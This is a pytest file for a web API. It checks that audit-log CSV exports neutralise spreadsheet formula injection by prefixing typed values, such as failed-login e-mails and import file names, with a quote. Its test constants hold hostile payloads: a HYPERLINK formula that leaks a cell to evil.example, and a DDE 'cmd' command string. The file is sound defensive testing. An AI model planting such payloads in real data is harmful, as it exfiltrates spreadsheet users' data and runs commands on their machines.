"""CSV exports carry no live spreadsheet formula: values anyone can type (the e-mail of a failed sign-in, an
imported file's name) are neutralised with a leading quote, through a real server (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from api.main import create_app
from insight import csvsafe
from insight.runtime import Runtime
from tests.fixtures import auth
from tests.fixtures.server import serving

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
FORMULAS = (HYPERLINK, "@SUM(1+1)", "=1+1.csv", "  +cmd|' /C calc'!A0", "\t=1+2", "-2+3")


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ (or a tab/CR), also after leading spaces."""
    return [
        cell
        for row in rows
        for cell in row
        if cell and (cell[0] in "=+-@\t\r" or cell.lstrip()[:1] in {"=", "+", "-", "@"})
    ]


def test_audit_export_neutralises_formulas(runtime: Runtime) -> None:
    app = create_app(runtime.settings, runtime=runtime, embedded_worker=False)
    admin = auth.admin(runtime)
    sync = auth.make_user(runtime, "sync@example.com", role="manager", team="ops", scopes=["sync"])
    with serving(app) as base, httpx.Client(base_url=base, timeout=30) as client:
        # No account needed: failed sign-ins are audited with the e-mail as typed.
        for email in (HYPERLINK, "@SUM(1+1)", " =cmd()"):
            r = client.post("/api/auth/login", json={"email": email, "password": "wrong password"})
            assert r.status_code == 401, r.text
        # An import file whose name is a formula (rejected as a file, audited by name).
        r = client.post(
            "/api/imports/transactions",
            files={"file": ("=1+1.csv", b"not,a,transaction,file\n", "text/csv")},
            headers=sync.headers,
        )
        assert r.status_code == 422, r.text
        r = client.get("/api/admin/audit.csv", headers=admin.headers)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "id"
    assert live_formulas(rows) == []
    cells = [cell for row in rows for cell in row]
    # Kept readable: the same text behind one quote, which a spreadsheet shows and does not run.
    for typed in (HYPERLINK, "@SUM(1+1)", "=1+1.csv"):
        found = [c for c in cells if c.lower().lstrip("'").strip() == typed.lower()]
        assert found, (typed, cells)
        assert all(c.startswith("'") for c in found), found
    # The JSON API is not a spreadsheet: it returns the values as they were recorded.
    with serving(app) as base:
        events = httpx.get(f"{base}/api/admin/audit", headers=admin.headers).json()["data"]
    assert "=1+1.csv" in {e["object_id"] for e in events}


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote(value: str) -> None:
    assert csvsafe.safe_cell(value) == "'" + value
    out = io.StringIO()
    csvsafe.writer(out).writerow(["ok", value, 3])
    assert live_formulas(list(csv.reader(io.StringIO(out.getvalue())))) == []


@pytest.mark.parametrize("value", [-12.5, 0, 42, None, "-12.5", "+81", "1e3", "sato@example.jp", "", "田中", "A-1"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert csvsafe.safe_cell(value) == value
    out = io.StringIO()
    csvsafe.writer(out).writerow([value])
    if isinstance(value, float):
        assert out.getvalue().strip() == "-12.5"  # written as a number: the spreadsheet can still sum it
